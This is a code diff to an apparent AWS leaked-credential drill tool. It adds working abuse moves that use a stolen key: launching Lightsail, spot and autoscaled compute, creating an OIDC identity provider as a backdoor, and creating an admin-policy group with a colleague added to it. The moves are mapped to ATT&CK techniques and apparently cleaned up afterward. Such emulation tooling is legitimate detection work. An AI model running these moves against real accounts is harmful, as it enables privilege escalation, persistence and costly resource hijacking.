@@ -13,6 +13,7 @@ from typing import Any
 from unleak.drill.stage import PRIVILEGED, VICTIM, Stage
 from unleak.drill.technique import Loot, Move, Technique
 from unleak.model.credential import Credentials, SecretKey
+from unleak.model.plan import Mode
 
 ADMIN = "arn:aws:iam::aws:policy/AdministratorAccess"
 STRANGER = "999988887777"
@@ -109,6 +110,35 @@ def _run_instance(loot: Loot) -> None:
     ec2.run_instances(ImageId=image, InstanceType="p4d.24xlarge", MinCount=1, MaxCount=1, IamInstanceProfile=profile)
 
 
+def _run_at_lightsail(loot: Loot) -> None:
+    loot.client("key", "lightsail").create_instances(
+        instanceNames=["proxy"], availabilityZone="us-east-1a", blueprintId="ubuntu_24_04", bundleId="nano_3_0"
+    )
+
+
+def _scale(loot: Loot) -> None:
+    ec2, scaling = loot.client("key", "ec2"), loot.client("key", "autoscaling")
+    image = ec2.describe_images(Owners=["amazon"])["Images"][0]["ImageId"]
+    data = {"ImageId": image, "InstanceType": "c7i.24xlarge"}
+    ec2.create_launch_template(LaunchTemplateName="batch", LaunchTemplateData=data)
+    scaling.create_auto_scaling_group(
+        AutoScalingGroupName="batch", LaunchTemplate={"LaunchTemplateName": "batch"}, MinSize=1, MaxSize=40,
+        DesiredCapacity=2, AvailabilityZones=["us-east-1a"],
+    )  # fmt: skip
+
+
+def _ask_for_spot(loot: Loot) -> None:
+    ec2 = loot.client("key", "ec2")
+    image = ec2.describe_images(Owners=["amazon"])["Images"][0]["ImageId"]
+    what = {"ImageId": image, "InstanceType": "c7i.24xlarge"}
+    ec2.request_spot_instances(InstanceCount=1, LaunchSpecification=what)
+
+
+def _let_in_by_provider(loot: Loot) -> None:
+    url = "https://token.example.org"
+    loot.client("key", "iam").create_open_id_connect_provider(Url=url, ThumbprintList=["a" * 40])
+
+
 def _open_door(loot: Loot) -> None:
     ec2 = loot.client("key", "ec2")
     found = ec2.describe_security_groups(Filters=[{"Name": "group-name", "Values": ["web"]}])["SecurityGroups"]
@@ -175,11 +205,18 @@ _RIGHTS = (
     _move("iam:AttachRolePolicy", _iam("attach_role_policy", RoleName="support", PolicyArn=ADMIN)),
     _move("iam:CreatePolicy", _iam("create_policy", PolicyName="all", PolicyDocument=_allow("*"))),
     _move("iam:AttachGroupPolicy", _iam("attach_group_policy", GroupName=GROUP, PolicyArn="{mine}:policy/all")),
+    _move("iam:CreateOpenIDConnectProvider", _let_in_by_provider),
+    _move("iam:CreateGroup", _iam("create_group", GroupName="auditors")),
+    _move("iam:AttachGroupPolicy", _iam("attach_group_policy", GroupName="auditors", PolicyArn=ADMIN)),
+    _move("iam:AddUserToGroup", _iam("add_user_to_group", GroupName="auditors", UserName=COLLEAGUE)),
     _move("iam:CreatePolicyVersion", _iam("create_policy_version", PolicyArn=f"{{mine}}:policy/{POLICY}",
                                           PolicyDocument=_allow("*"), SetAsDefault=True)),
 )  # fmt: skip
 _RESOURCES = (
     _move("ec2:RunInstances", _run_instance),
+    _move("lightsail:CreateInstances", _run_at_lightsail),
+    _move("autoscaling:CreateAutoScalingGroup", _scale),
+    _move("ec2:RequestSpotInstances", _ask_for_spot),
     _move("ec2:AuthorizeSecurityGroupIngress", _open_door),
     _move("ec2:ModifySnapshotAttribute", _share_snapshot),
     _move("lambda:CreateFunction", _make_function),
@@ -201,4 +238,6 @@ TECHNIQUE = Technique(
     attack=("T1078.004", "T1098.001", "T1098.003", "T1136.003", "T1578.002", "T1537", "T1562.008", "T1648"),
     moves=(*_CREDENTIALS, *_RIGHTS, *_RESOURCES, *_BLINDING, *_USES),
     prepare=prepare,
+    mode=Mode.LOCKDOWN,
+    puts_right=True,
 )
